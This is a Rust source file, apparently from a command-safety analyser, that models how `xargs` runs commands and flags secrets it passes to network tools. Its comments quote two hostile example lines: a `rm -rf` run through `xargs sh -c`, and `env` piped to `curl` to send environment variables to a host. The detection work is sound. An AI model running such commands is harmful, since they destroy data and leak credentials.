//! `xargs`: the command it runs, with the items of its input as arguments.

use super::super::args::{NETWORK_SENDERS, SECRET_INPUT, first_operand, has_long, opt_value};
use super::super::shell::{Input, Sh, program_name};
use super::{leading_short, run_argv};
use crate::Effect::Admin;

/// `xargs CMD`: CMD runs with the items of xargs' input as its arguments, in place of the
/// `-I` placeholder or appended. A literal input gives the items (`echo 'rm -rf x' | xargs
/// -I{} sh -c '{}'`); any other input is a value computed at run time (`$`).
pub(super) fn xargs(sh: &mut Sh, args: &[String], stdin: &Input, via: &str) -> Input {
    let i = first_operand(
        args,
        &[
            "-n",
            "-L",
            "-l",
            "-I",
            "-P",
            "-d",
            "-E",
            "-e",
            "-s",
            "-a",
            "--max-args",
            "--max-procs",
            "--delimiter",
            "--arg-file",
            "-R",
            "-S",
            "-J",
        ],
    );
    let flags = args.get(..i).unwrap_or_default();
    let placeholder: Option<String> = opt_value(flags, &["-I", "-J"], &["--replace"])
        .map(str::to_string)
        .or_else(|| {
            flags.iter().find_map(|a| {
                a.strip_prefix("-i")
                    .map(|r| if r.is_empty() { "{}" } else { r }.to_string())
            })
        });
    let mut rest = args.get(i..).unwrap_or_default().to_vec();
    if rest.is_empty() {
        rest.push("echo".into());
    }
    let from_file = opt_value(flags, &["-a"], &["--arg-file"]).is_some();
    let items: Vec<String> = match stdin {
        Input::Literal(s) if !from_file => {
            let delimiter = if leading_short(flags, '0') || has_long(flags, "--null") {
                Some('\0')
            } else if placeholder.is_some() {
                Some('\n')
            } else {
                None
            };
            match delimiter {
                Some(d) => s
                    .split(d)
                    .filter(|x| !x.is_empty())
                    .map(str::to_string)
                    .collect(),
                None => split_quoted(s),
            }
        }
        Input::Literal(_) | Input::Unknown(_) | Input::None => vec!["$".to_string()],
    };
    let out = Input::Unknown("the output of `xargs`".into());
    // `env | xargs -I{} curl 'https://host/?d={}'`: a secret on the input is sent as
    // arguments (also one read from `-a FILE`).
    let carried = match stdin {
        Input::Unknown(what) if what.starts_with(SECRET_INPUT) => Some(what.clone()),
        _ => opt_value(flags, &["-a"], &["--arg-file"])
            .and_then(|f| sh.secret_file(f))
            .map(|f| format!("the secret `{f}`")),
    };
    if let Some(what) = carried
        && let Some(program) = rest.first()
        && NETWORK_SENDERS.contains(&program_name(program))
    {
        sh.add(
            Admin,
            format!("`xargs {program}` sends {what} over the network as its arguments"),
        );
    }
    match placeholder {
        Some(p) => {
            for item in items.iter().take(16) {
                let argv: Vec<String> = rest.iter().map(|a| a.replace(&p, item)).collect();
                let _ = run_argv(sh, &argv, &Input::None, via);
            }
        }
        None => {
            rest.extend(items.into_iter().take(256));
            let _ = run_argv(sh, &rest, &Input::None, via);
        }
    }
    out
}

/// Splits text into words as xargs does: at blanks, outside single or double quotes.
fn split_quoted(s: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quote: Option<char> = None;
    let mut any = false;
    for c in s.chars() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), c) => cur.push(c),
            (None, '\'' | '"') => {
                quote = Some(c);
                any = true;
            }
            (None, c) if c.is_whitespace() => {
                if any || !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                }
                any = false;
            }
            (None, c) => cur.push(c),
        }
    }
    if any || !cur.is_empty() {
        out.push(cur);
    }
    out
}
